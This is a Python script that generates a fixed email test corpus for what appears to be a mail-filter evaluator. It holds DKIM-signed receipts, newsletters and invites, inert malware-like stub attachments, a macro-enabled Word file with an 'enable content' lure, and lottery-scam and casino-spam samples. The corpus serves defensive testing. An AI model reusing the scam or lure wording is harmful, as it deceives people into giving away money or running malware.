"""Write the corpus: ``messages/*.eml`` (LF line endings, as a repository stores them) and
``envelopes.yaml`` (how each message arrives: client IP, HELO, MAIL FROM, RCPT TO, and what it is).

Run ``python -m tests.corpus.make_messages`` after changing a message here; the output is
committed so reviewers can read every message, and this script is deterministic (fixed dates,
boundaries, Message-IDs and DKIM timestamps), so rerunning it changes nothing else.

Binary parts are small but real: a PDF with a correct cross-reference table, a PNG, zips made
with :mod:`zipfile`, a PE file's ``MZ`` header, a Windows shortcut's header, a macro-enabled
Word package with a ``vbaProject.bin`` part. DKIM signatures use the demo key
``profiles/dns/demo-dkim-private.pem`` (its public half is in ``dns/corpus.zone``); "altered"
messages are changed after signing, as a forwarder or an attacker would.

This script owns the corpus files only; it judges nothing (that is ``generate.py``).
"""

from __future__ import annotations

import email.utils
import hashlib
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import timedelta
from email import policy
from email.message import EmailMessage
from pathlib import Path
from typing import Any
from unittest import mock

import dkim
import yaml

HERE = Path(__file__).parent
ROOT = HERE.parent.parent
MESSAGES = HERE / "messages"
KEY = (ROOT / "profiles" / "dns" / "demo-dkim-private.pem").read_bytes()

# CRLF for signing (RFC 6376 signs the message as sent); stored with LF afterwards.
POLICY = policy.SMTP.clone(max_line_length=78)

SENT_EARLIER = timedelta(weeks=104)
RCPT = "jordan.lee@corp.example"
TO = "Jordan Lee <jordan.lee@corp.example>"

# Sending servers (see dns/corpus.zone).
ACME = ("198.51.100.10", "mx.acme-store.example")
ESP = ("203.0.113.20", "o1.esp.example")
PARTNER = ("198.51.100.70", "mail.partner.example")
SUPPLIER = ("198.51.100.130", "mail.supplier.example")
BANK = ("198.51.100.201", "notify.bank.example")
FREEMAIL = ("192.0.2.165", "smtp-out.freemail.example")
ATTACKER = ("192.0.2.150", "bank-secure-login.example")
LISTED = ("192.0.2.99", "winner-notice.example")  # on zen.spamhaus.org in the fixture
STRANGER = ("203.0.113.200", "vps-203-0-113-200.hosting.example")  # in nobody's SPF
FORWARDER = ("203.0.113.150", "lists.forwarder.example")
CRM = ("198.51.100.140", "legacy-crm.example")
NODMARC = ("198.51.100.151", "mail.nodmarc.example")
TWOSPF = ("198.51.100.161", "mail.twospf.example")


# Where the sending MTA got each message from: the author's client or the application, over
# authenticated submission (RFC 6409) from an internal address (RFC 1918).
SUBMITTER = "app-01.internal (app-01.internal [10.20.30.41])"
FORWARDED_FROM = ACME  # auth-dkim-* messages reach the list from acme-store.example's server


def received(by: str, source: str, date: str, seed: str, protocol: str = "ESMTPSA") -> bytes:
    """A Postfix-style trace field (RFC 5321 §4.4) with a queue id derived from ``seed``."""
    queue_id = hashlib.sha1(seed.encode()).hexdigest()[:11].upper()
    return (
        f"Received: from {source}\r\n\tby {by} (Postfix) with {protocol} id {queue_id}\r\n"
        f"\tfor <{RCPT}>; {date}\r\n"
    ).encode()


# --- binary parts ------------------------------------------------------------------------------


def pdf(text: str) -> bytes:
    """A one-page PDF 1.4 whose xref offsets are right (PDF 32000-1 §7.5.4)."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def png(width: int = 8, height: int = 8, rgb: tuple[int, int, int] = (200, 40, 40)) -> bytes:
    """A truecolour PNG (RFC 2083): signature, IHDR, one IDAT, IEND."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    row = b"\x00" + bytes(rgb) * width
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(row * height, 9))
        + chunk(b"IEND", b"")
    )


def exe() -> bytes:
    """The start of a PE file: DOS header with e_lfanew, the DOS stub, the PE signature."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    dos[60:64] = struct.pack("<I", 128)
    stub = b"This program cannot be run in DOS mode.\r\r\n$".ljust(64, b"\x00")
    pe = b"PE\x00\x00" + struct.pack("<HH", 0x14C, 1) + bytes(16)
    return bytes(dos) + stub + pe + bytes(128)


def lnk() -> bytes:
    """A Windows shortcut's ShellLinkHeader ([MS-SHLLINK] 2.1): size 0x4C and its CLSID."""
    clsid = bytes.fromhex("0114020000000000c000000000000046")
    return struct.pack("<I", 0x4C) + clsid + bytes(0x4C - 20) + b"C:\\Windows\\System32\\cmd.exe"


def make_zip(files: dict[str, bytes], *, encrypted: bool = False) -> bytes:
    """A zip with fixed timestamps; ``encrypted`` sets general purpose bit 0 (APPNOTE 4.4.4)
    on every member, which is what a password-protected archive carries."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 11, 22, 9, 30, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    data = bytearray(buffer.getvalue())
    if encrypted:
        for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            start = 0
            while (start := data.find(signature, start)) >= 0:
                flags = struct.unpack_from("<H", data, start + flag_at)[0]
                struct.pack_into("<H", data, start + flag_at, flags | 0x1)
                start += 4
    return bytes(data)


def docm() -> bytes:
    """A macro-enabled Word document (ECMA-376 Part 2 package) with a vbaProject.bin part
    ([MS-OFFMACRO]): the main part's content type says macroEnabled."""
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Override PartName="/word/document.xml" '
        'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
        "</Types>"
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
    )
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>This document is protected. Enable editing and enable "
        "content to view the invoice.</w:t></w:r></w:p></w:body></w:document>"
    )
    # An OLE compound file signature heads a real vbaProject.bin ([MS-OVBA] 2.2).
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    return make_zip(
        {
            "[Content_Types].xml": content_types.encode(),
            "_rels/.rels": rels.encode(),
            "word/document.xml": document.encode(),
            "word/vbaProject.bin": vba,
        }
    )


def ics(method: str, summary: str, uid: str, *, sequence: int = 0) -> str:
    """An iCalendar object (RFC 5545) with an iTIP method (RFC 5546) as Outlook sends it."""
    status = "CANCELLED" if method == "CANCEL" else "CONFIRMED"
    return "\r\n".join(
        [
            "BEGIN:VCALENDAR",
            "PRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN",
            "VERSION:2.0",
            f"METHOD:{method}",
            "BEGIN:VEVENT",
            "ORGANIZER;CN=Priya Raman:mailto:priya.raman@partner.example",
            "ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=Jordan Lee:"
            "mailto:jordan.lee@corp.example",
            f"SUMMARY:{summary}",
            "DTSTART:20241212T150000Z",
            "DTEND:20241212T153000Z",
            f"UID:{uid}",
            "DTSTAMP:20241203T091500Z",
            f"SEQUENCE:{sequence}",
            f"STATUS:{status}",
            "LOCATION:Microsoft Teams Meeting",
            "END:VEVENT",
            "END:VCALENDAR",
            "",
        ]
    )


# --- message building ---------------------------------------------------------------------------


@dataclass
class Corpus:
    """Messages in the making: name -> (bytes as stored, envelope)."""

    out: Path = MESSAGES
    written: dict[str, dict[str, Any]] = field(default_factory=dict)

    def add(
        self,
        name: str,
        about: str,
        message: EmailMessage,
        server: tuple[str, str],
        mail_from: str,
        *,
        sign: tuple[str, str] | None = None,
        alter: Callable[[bytes], bytes] | None = None,
        rcpt: str = RCPT,
    ) -> None:
        date = str(message["Date"])
        origin = FORWARDED_FROM if server == FORWARDER else server
        # The sending organisation's own outbound hop (RFC 5321 §4.4): it received the message
        # from the author's client and signs it on the way out, so Received comes first.
        raw = received(origin[1], SUBMITTER, date, name) + message.as_bytes(policy=POLICY)
        if sign is not None:
            domain, selector = sign
            # A fixed signing time (t=) keeps the output identical from run to run.
            with mock.patch("time.time", return_value=1733356800):  # 2024-12-05 00:00 UTC
                header = dkim.sign(
                    raw,
                    selector.encode(),
                    domain.encode(),
                    KEY,
                    include_headers=[
                        b"from",
                        b"to",
                        b"subject",
                        b"date",
                        b"message-id",
                        b"mime-version",
                        b"content-type",
                    ],
                )
            raw = header + raw
        if alter is not None:
            altered = alter(raw)
            assert altered != raw, f"{name}: the alteration changed nothing"
            raw = altered
        if server == FORWARDER:  # the list's hop, after the shop's: on top
            shop = f"{FORWARDED_FROM[1]} ({FORWARDED_FROM[1]} [{FORWARDED_FROM[0]}])"
            raw = received(server[1], shop, date, f"list-{name}", "ESMTPS") + raw
        assert b"\r" not in raw.replace(b"\r\n", b""), f"{name}: a bare CR"
        assert b"\n" not in raw.replace(b"\r\n", b""), f"{name}: a bare LF"
        (self.out / f"{name}.eml").write_bytes(raw.replace(b"\r\n", b"\n"))
        self.written[name] = {
            "about": about,
            "client_ip": server[0],
            "helo": server[1],
            "mail_from": mail_from,
            "rcpt": [rcpt],
        }


def msg(
    subject: str,
    sender: str,
    *,
    date: str,
    message_id: str,
    to: str = TO,
    extra: dict[str, str] | None = None,
) -> EmailMessage:
    message = EmailMessage(policy=POLICY)
    message["From"] = sender
    message["To"] = to
    message["Subject"] = subject
    # Dates are written as in late 2026 and sent 104 weeks earlier (same weekdays), so that
    # no Date and no DKIM t= lies in the future of any CI clock: verifiers refuse a signature
    # from the future (RFC 6376 §3.5 t=; dkimpy allows 10 hours of clock skew).
    message["Date"] = email.utils.format_datetime(
        email.utils.parsedate_to_datetime(date) - SENT_EARLIER
    )
    message["Message-ID"] = message_id
    for key, value in (extra or {}).items():
        message[key] = value
    return message


def boundaries(message: EmailMessage, stem: str) -> EmailMessage:
    """Fixed multipart boundaries (the library would pick random ones), and no MIME-Version in
    body parts: RFC 2045 §4 asks for it in the message header only, where mailers put it."""
    for number, part in enumerate(message.walk()):
        if part is not message:
            del part["MIME-Version"]
        if part.is_multipart():
            part.set_boundary(f"----=_Part_{stem}_{number}")
    return message


def alternative(message: EmailMessage, text: str, html: str) -> None:
    message.set_content(text)
    message.add_alternative(html, subtype="html")


def replace(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    def alter(raw: bytes) -> bytes:
        assert old in raw, old
        return raw.replace(old, new, 1)

    return alter


ESP_HEADERS = {
    "List-Unsubscribe": "<https://click.newsletter.example/unsub/u-8842?c=nl-48>, "
    "<mailto:unsubscribe-u-8842@em.newsletter.example?subject=unsubscribe>",
    "List-Unsubscribe-Post": "List-Unsubscribe=One-Click",
    "List-Id": "Newsletter Weekly <weekly.newsletter.example>",
    "Precedence": "bulk",
    "X-Mailer": "ESP Sender 7.2",
    "Feedback-ID": "nl-48:weekly:esp.example",
}

PREHEADER = (
    '<div style="display:none;font-size:1px;color:#ffffff;line-height:1px;max-height:0px;'
    'max-width:0px;opacity:0;overflow:hidden;">{text}&#8199;&#65279;&#847; &#8199;&#65279;'
    "&#847; &#8199;&#65279;&#847;</div>"
)
PIXEL = (
    '<img src="https://click.newsletter.example/open/u-8842/{c}.gif" width="1" height="1" '
    'alt="" style="display:block;border:0;width:1px;height:1px" />'
)


def esp_html(campaign: str, preheader: str, body: str, hero: str | None) -> str:
    hero_row = (
        f'<tr><td><img src="https://cdn.esp.example/u/8842/{hero}" width="600" '
        f'alt="{campaign}" style="display:block;width:100%;max-width:600px" /></td></tr>'
        if hero
        else ""
    )
    return f"""<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>{campaign}</title>
<style>
  body {{ margin:0; padding:0; background:#f4f4f4; }}
  .wrapper {{ width:100%; background:#f4f4f4; }}
  @media only screen and (max-width:620px) {{ .container {{ width:100% !important; }} }}
</style>
</head>
<body>
{PREHEADER.format(text=preheader)}
<table class="wrapper" role="presentation" width="100%" cellpadding="0" cellspacing="0">
<tr><td align="center">
<table class="container" role="presentation" width="600" cellpadding="0" cellspacing="0"
       style="background:#ffffff;font-family:Helvetica,Arial,sans-serif;color:#333333">
<tr><td style="padding:16px"><img src="https://cdn.esp.example/u/8842/logo.png" width="120"
    alt="Newsletter" /></td></tr>
{hero_row}
<tr><td style="padding:16px;font-size:16px;line-height:24px">
{body}
</td></tr>
<tr><td style="padding:16px;font-size:12px;color:#888888">
You receive this email because you signed up at newsletter.example.<br>
<a href="https://click.newsletter.example/prefs/u-8842">Manage preferences</a> |
<a href="https://click.newsletter.example/unsub/u-8842?c={campaign}">Unsubscribe</a><br>
Newsletter Example Ltd, 1 Example Street, Exampletown
</td></tr>
</table>
</td></tr>
</table>
{PIXEL.format(c=campaign)}
</body>
</html>
"""


def newsletter(
    corpus: Corpus,
    name: str,
    about: str,
    subject: str,
    preheader: str,
    body_text: str,
    body_html: str,
    *,
    day: int,
    hero: str | None = "hero.jpg",
    sign: tuple[str, str] | None = ("newsletter.example", "nl1"),
    sender: str = "Newsletter Weekly <weekly@newsletter.example>",
) -> None:
    message = msg(
        subject,
        sender,
        date=f"Thu, {day:02d} Nov 2026 14:00:00 +0000",
        message_id=f"<{name}.{day}@em.newsletter.example>",
        extra=ESP_HEADERS | {"Reply-To": "Newsletter Team <hello@newsletter.example>"},
    )
    text = (
        f"{body_text}\n\n"
        "Manage preferences: https://click.newsletter.example/prefs/u-8842\n"
        f"Unsubscribe: https://click.newsletter.example/unsub/u-8842?c={name}\n"
    )
    alternative(message, text, esp_html(name, preheader, body_html, hero))
    corpus.add(
        name,
        about,
        boundaries(message, name),
        ESP,
        "bounces+u-8842@em.newsletter.example",
        sign=sign,
    )


# --- the messages ------------------------------------------------------------------------------


def transactional(corpus: Corpus) -> None:
    acme = "Acme Store <orders@acme-store.example>"
    sign = ("acme-store.example", "s1")

    m = msg(
        "Your Acme Store order #A-20931 is confirmed",
        acme,
        date="Mon, 23 Nov 2026 10:15:02 +0000",
        message_id="<order-A-20931.confirm@acme-store.example>",
    )
    alternative(
        m,
        "Hi Jordan,\n\nThanks for your order #A-20931.\n\n"
        "  1 x USB-C cable (2 m)        9.90 EUR\n"
        "  1 x Laptop stand            34.00 EUR\n"
        "  Shipping                     4.50 EUR\n"
        "  Total                       48.40 EUR\n\n"
        "Track your order: https://acme-store.example/orders/A-20931\n\nAcme Store\n",
        '<html><body style="font-family:Arial,sans-serif"><h1>Thanks for your order</h1>'
        "<p>Hi Jordan, your order <b>#A-20931</b> is confirmed.</p>"
        "<table><tr><td>1 x USB-C cable (2 m)</td><td>9.90 EUR</td></tr>"
        "<tr><td>1 x Laptop stand</td><td>34.00 EUR</td></tr>"
        "<tr><td>Shipping</td><td>4.50 EUR</td></tr>"
        "<tr><td><b>Total</b></td><td><b>48.40 EUR</b></td></tr></table>"
        '<p><a href="https://acme-store.example/orders/A-20931">Track your order</a></p>'
        "</body></html>\n",
    )
    corpus.add(
        "tx-order-receipt",
        "Shop receipt, text and HTML, DKIM-signed, SPF and DMARC pass",
        boundaries(m, "receipt"),
        ACME,
        "bounce-orders@acme-store.example",
        sign=sign,
    )

    m = msg(
        "Reset your Acme Store password",
        "Acme Store <no-reply@acme-store.example>",
        date="Mon, 23 Nov 2026 11:02:45 +0000",
        message_id="<pwreset.7f3a9c@acme-store.example>",
    )
    alternative(
        m,
        "Someone asked to reset the password of your Acme Store account.\n\n"
        "Reset it here (the link works for 30 minutes):\n"
        "https://acme-store.example/account/reset?token=7f3a9c2d41b8e6\n\n"
        "If it was not you, ignore this email: your password stays the same.\n",
        "<html><body><p>Someone asked to reset the password of your Acme Store account.</p>"
        '<p><a href="https://acme-store.example/account/reset?token=7f3a9c2d41b8e6" '
        'style="background:#0a66c2;color:#fff;padding:10px 16px;text-decoration:none">'
        "Reset password</a></p><p>The link works for 30 minutes. If it was not you, ignore "
        "this email.</p></body></html>\n",
    )
    corpus.add(
        "tx-password-reset",
        "Password reset link, DKIM-signed, SPF and DMARC pass",
        boundaries(m, "reset"),
        ACME,
        "bounce-orders@acme-store.example",
        sign=sign,
    )

    m = msg(
        "Invoice INV-2024-1187 from Acme Store",
        "Acme Store Billing <billing@acme-store.example>",
        date="Tue, 24 Nov 2026 08:00:00 +0000",
        message_id="<INV-2024-1187@acme-store.example>",
    )
    m.set_content(
        "Dear customer,\n\nplease find attached invoice INV-2024-1187 (48.40 EUR), paid by card "
        "on 25 November 2024. No action is needed.\n\nAcme Store Billing\n"
    )
    m.add_attachment(
        pdf("Invoice INV-2024-1187 - 48.40 EUR - paid"),
        maintype="application",
        subtype="pdf",
        filename="INV-2024-1187.pdf",
    )
    corpus.add(
        "tx-invoice-pdf",
        "Invoice with a real PDF attached, DKIM-signed",
        boundaries(m, "invoice"),
        ACME,
        "bounce-orders@acme-store.example",
        sign=sign,
    )

    m = msg(
        "Your order #A-20931 has shipped",
        acme,
        date="Wed, 25 Nov 2026 07:42:10 +0000",
        message_id="<ship-A-20931@acme-store.example>",
    )
    m.set_content(
        "Your order #A-20931 is on its way.\nTrack it: https://acme-store.example/track/A-20931\n"
    )
    m.add_alternative(
        '<html><body><img src="cid:logo@acme" alt="Acme Store" width="96" height="32">'
        "<h2>Your order is on its way</h2>"
        '<p><a href="https://acme-store.example/track/A-20931">Track your parcel</a></p>'
        "</body></html>\n",
        subtype="html",
    )
    parts = m.get_payload()
    assert isinstance(parts, list)
    html_part = parts[1]
    assert isinstance(html_part, EmailMessage)
    html_part.add_related(png(96, 32, (10, 102, 194)), "image", "png", cid="<logo@acme>")
    corpus.add(
        "tx-shipping-inline-logo",
        "Shipping notice with the logo as an inline cid: image (multipart/related)",
        boundaries(m, "ship"),
        ACME,
        "bounce-orders@acme-store.example",
        sign=sign,
    )

    m = msg(
        "Your Acme Store verification code",
        "Acme Store <no-reply@acme-store.example>",
        date="Thu, 26 Nov 2026 19:20:00 +0000",
        message_id="<otp.481516@acme-store.example>",
    )
    m.set_content(
        "Your verification code is 481516.\n\nIt expires in 10 minutes. Acme Store staff will "
        "never ask you for this code.\n"
    )
    corpus.add(
        "tx-verification-code",
        "One-time code, plain text only",
        m,
        ACME,
        "bounce-orders@acme-store.example",
        sign=sign,
    )

    m = msg(
        "Your monthly statement is ready",
        "Example Bank <notifications@bank.example>",
        date="Tue, 01 Dec 2026 06:00:00 +0000",
        message_id="<stmt-2024-11.99812@notify.bank.example>",
    )
    alternative(
        m,
        "Your statement for November 2024 is ready in online banking.\n"
        "Sign in at https://bank.example/ (we never send links to sign in).\n",
        "<html><body><p>Your statement for November 2024 is ready in online banking.</p>"
        "<p>Sign in at bank.example as usual. We never send sign-in links.</p></body></html>\n",
    )
    corpus.add(
        "tx-bank-statement-ready",
        "The bank's own notice: SPF, DKIM and DMARC p=reject all pass",
        boundaries(m, "stmt"),
        BANK,
        "bounces@bank.example",
        sign=("bank.example", "bk1"),
    )

    m = msg(
        "Payslip November 2024",
        "Partner Payroll <payroll@partner.example>",
        date="Fri, 27 Nov 2026 16:30:00 +0000",
        message_id="<payslip-2024-11-4471@partner.example>",
    )
    m.set_content(
        "Hello Jordan,\n\nyour payslip for November 2024 is attached (PDF).\n\nPayroll team\n"
    )
    m.add_attachment(
        pdf("Payslip 2024-11 Jordan Lee"),
        maintype="application",
        subtype="pdf",
        filename="Payslip_2024-11.pdf",
    )
    corpus.add(
        "tx-payslip-pdf",
        "Payslip PDF from a partner on hosted Exchange (DMARC p=quarantine, aligned DKIM)",
        boundaries(m, "payslip"),
        PARTNER,
        "payroll@partner.example",
        sign=("partner.example", "selector1"),
    )

    m = msg(
        "Scheduled report: weekly orders (CSV)",
        "Reports <reports@acme-store.example>",
        date="Mon, 30 Nov 2026 05:00:00 +0000",
        message_id="<report-weekly-48@acme-store.example>",
    )
    m.set_content("The weekly orders report is attached.\n")
    m.add_attachment(
        "order,date,total\nA-20931,2024-11-23,48.40\nA-20932,2024-11-24,12.00\n",
        subtype="csv",
        filename="orders-week-48.csv",
    )
    corpus.add(
        "tx-csv-report",
        "Scheduled report with a CSV attachment",
        boundaries(m, "csv"),
        ACME,
        "reports@acme-store.example",
        sign=sign,
    )

    m = msg(
        "RE: Q1 planning workshop",
        "Priya Raman <priya.raman@partner.example>",
        date="Tue, 01 Dec 2026 09:12:33 +0100",
        message_id="<AM0PR07MB6130B8C1D2E3F4A5@AM0PR07MB6130.eurprd07.prod.example>",
        extra={
            "In-Reply-To": "<CAF1x2y3z4@mail.corp.example>",
            "References": "<CAF1x2y3z4@mail.corp.example>",
            "Thread-Topic": "Q1 planning workshop",
            "Thread-Index": "AQHZx1Yb2c3d4e5f6g7h8i9j0k==",
            "Accept-Language": "en-GB, en-US",
            "Content-Language": "en-GB",
            "X-MS-Has-Attach": "",
        },
    )
    alternative(
        m,
        "Hi Jordan,\n\nThursday 10:00 works for us. I'll bring the draft roadmap.\n\n"
        "Best,\nPriya\n\n"
        "From: Jordan Lee <jordan.lee@corp.example>\nSent: 2 December 2024 17:40\n"
        "Subject: Q1 planning workshop\n\n"
        "> Could we meet on Thursday to plan Q1?\n",
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
        '<style>p.MsoNormal{margin:0cm;font-size:11.0pt;font-family:"Calibri",sans-serif;}'
        '</style></head><body lang="EN-GB"><div class="WordSection1">'
        '<p class="MsoNormal">Hi Jordan,</p><p class="MsoNormal">&nbsp;</p>'
        '<p class="MsoNormal">Thursday 10:00 works for us. I\'ll bring the draft roadmap.</p>'
        '<p class="MsoNormal">Best,<br>Priya</p>'
        '<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">'
        '<p class="MsoNormal"><b>From:</b> Jordan Lee &lt;jordan.lee@corp.example&gt;<br>'
        "<b>Sent:</b> 2 December 2024 17:40<br><b>Subject:</b> Q1 planning workshop</p></div>"
        '<p class="MsoNormal">Could we meet on Thursday to plan Q1?</p></div></body></html>\n',
    )
    corpus.add(
        "tx-outlook-reply",
        "A colleague's Outlook reply (Thread-Index, MsoNormal HTML, quoted text)",
        boundaries(m, "reply"),
        PARTNER,
        "priya.raman@partner.example",
        sign=("partner.example", "selector1"),
    )

    m = msg(
        "photos from saturday",
        "Sam Okafor <sam.okafor@freemail.example>",
        date="Sun, 29 Nov 2026 21:03:17 -0800",
        message_id="<CAO9k2mF+xYz=AbC_dEf-GhIjKlMnOp@mail.freemail.example>",
    )
    m.set_content("here's the one from the lake :)\n\nsam\n")
    m.add_attachment(png(32, 24, (30, 120, 200)), "image", "png", filename="IMG_2041.png")
    corpus.add(
        "tx-personal-photo",
        "A person at a webmail provider sending a photo (DKIM d=freemail.example)",
        boundaries(m, "photo"),
        FREEMAIL,
        "sam.okafor@freemail.example",
        sign=("freemail.example", "fm2026"),
    )

    for name, method, summary, about, seq in (
        (
            "tx-calendar-invite",
            "REQUEST",
            "Q1 planning workshop",
            "Outlook meeting request: text/calendar method=REQUEST plus invite.ics",
            0,
        ),
        (
            "tx-calendar-cancel",
            "CANCEL",
            "Canceled: Q1 planning workshop",
            "Outlook meeting cancellation (iTIP CANCEL)",
            1,
        ),
    ):
        m = msg(
            summary,
            "Priya Raman <priya.raman@partner.example>",
            date=f"Tue, 01 Dec 2026 09:{15 + seq:02d}:00 +0100",
            message_id=f"<{name}.040000008200E0@partner.example>",
        )
        cal = ics(method, summary, "040000008200E00074C5B7101A82E00800000000", sequence=seq)
        m.set_content(
            f"{summary}\nThursday, 12 December 2024 15:00-15:30 (UTC)\nMicrosoft Teams meeting\n"
        )
        m.add_alternative(cal, subtype="calendar", params={"method": method})
        m.make_mixed()
        m.add_attachment(cal.encode(), "text", "calendar", filename="invite.ics")
        corpus.add(
            name,
            about,
            boundaries(m, name),
            PARTNER,
            "priya.raman@partner.example",
            sign=("partner.example", "selector1"),
        )


def newsletters(corpus: Corpus) -> None:
    newsletter(
        corpus,
        "nl-weekly-digest",
        "ESP newsletter: hidden preheader, remote images, tracking pixel, List-Unsubscribe "
        "one-click, aligned DKIM",
        "This week: five reads on remote work",
        "Five reads for your weekend, picked by the team.",
        "This week: five reads on remote work.\nRead online: https://newsletter.example/w/48",
        "<h1>Five reads on remote work</h1><p>Our pick of the week's best long reads.</p>"
        '<p><a href="https://click.newsletter.example/c/u-8842/1">Read them online</a></p>',
        day=26,
    )
    newsletter(
        corpus,
        "nl-product-launch",
        "ESP product launch: hero image, button, preheader, pixel",
        "Meet the new Example Watch",
        "Lighter, brighter, and available today.",
        "Meet the new Example Watch. Lighter, brighter, available today.\n"
        "Shop now: https://newsletter.example/watch",
        "<h1>Meet the new Example Watch</h1><p>Lighter, brighter, available today.</p>"
        '<p><a href="https://click.newsletter.example/c/u-8842/2" '
        'style="background:#111;color:#fff;padding:12px 20px">Shop now</a></p>',
        day=19,
        hero="watch.jpg",
    )
    newsletter(
        corpus,
        "nl-black-friday-sale",
        "Retail sale newsletter with an all-caps subject and discount language",
        "BLACK FRIDAY: 50% OFF EVERYTHING",
        "Our biggest sale of the year ends Monday.",
        "Black Friday: 50% off everything until Monday.\n"
        "Shop the sale: https://newsletter.example/sale",
        "<h1>50% off everything</h1><p>Our biggest sale of the year ends Monday night.</p>"
        '<p><a href="https://click.newsletter.example/c/u-8842/3">Shop the sale</a></p>',
        day=27,
        hero="sale.gif",
    )
    newsletter(
        corpus,
        "nl-webinar-invite",
        "Webinar invitation newsletter without a hero image",
        "Webinar: securing your email in 2025",
        "Join us live on 15 December, 16:00 CET.",
        "Join our webinar on 15 December, 16:00 CET.\nRegister: https://newsletter.example/webinar",
        "<h1>Securing your email in 2025</h1><p>Live on 15 December, 16:00 CET, with Q&amp;A."
        '</p><p><a href="https://click.newsletter.example/c/u-8842/4">Register</a></p>',
        day=12,
        hero=None,
    )
    newsletter(
        corpus,
        "nl-esp-signature-only",
        "Newsletter signed only by the ESP's own domain (d=esp.example): DKIM passes, "
        "not aligned; SPF aligned through the bounce domain",
        "Your November activity summary",
        "Here's what happened in your account this month.",
        "Your November activity summary: 3 new followers, 12 comments.",
        "<h1>Your November summary</h1><p>3 new followers, 12 comments.</p>",
        day=30,
        hero=None,
        sign=("esp.example", "esp"),
    )
    newsletter(
        corpus,
        "nl-charity-appeal",
        "Charity appeal newsletter (donation language, remote images)",
        "Double your impact before the year ends",
        "Every gift is matched until 31 December.",
        "Every gift is matched until 31 December. Donate: https://newsletter.example/give",
        "<h1>Double your impact</h1><p>Every gift is matched until 31 December.</p>"
        '<p><a href="https://click.newsletter.example/c/u-8842/6">Donate now</a></p>',
        day=5,
        hero="appeal.jpg",
    )


def hostile(corpus: Corpus) -> None:
    m = msg(
        "Congratulations! You have won the International Lottery",
        "Claims Department <claims@winner-notice.example>",
        date="Mon, 30 Nov 2026 03:11:09 +0000",
        message_id="<20241202031109.winner@winner-notice.example>",
        extra={"Reply-To": "claims.agent@freemail.example"},
    )
    m.set_content(
        "Dear Winner,\n\nYour email address won 1,500,000 USD in the international lottery "
        "draw. To release your prize we need a processing fee by wire transfer.\n"
        "Reply with your full name, address and bank details.\n\nMr. James Cole\n"
    )
    corpus.add(
        "spam-lottery-listed-ip",
        "Lottery scam from a client listed on Spamhaus ZEN",
        m,
        LISTED,
        "claims@winner-notice.example",
    )

    m = msg(
        "CLAIM YOUR 500 FREE SPINS NOW",
        "Royal Casino <vip@promo-deals.example>",
        date="Sat, 28 Nov 2026 22:45:00 +0000",
        message_id="<promo.77812@promo-deals.example>",
    )
    alternative(
        m,
        "Casino bonus: 500 free spins and a 200% deposit match. Play now at "
        "https://promo-deals.example/casino\nUnsubscribe: https://promo-deals.example/u\n",
        "<html><body><h1>500 FREE SPINS</h1><p>Casino bonus: 200% deposit match!</p>"
        '<p><a href="https://promo-deals.example/casino">PLAY NOW</a></p>'
        '<p style="font-size:9px"><a href="https://promo-deals.example/u">unsubscribe</a></p>'
        "</body></html>\n",
    )
    corpus.add(
        "spam-casino-bonus",
        "Casino spam: trigger words, all-caps subject, sender's own SPF softfail-lenient",
        boundaries(m, "casino"),
        ATTACKER,
        "vip@promo-deals.example",
    )

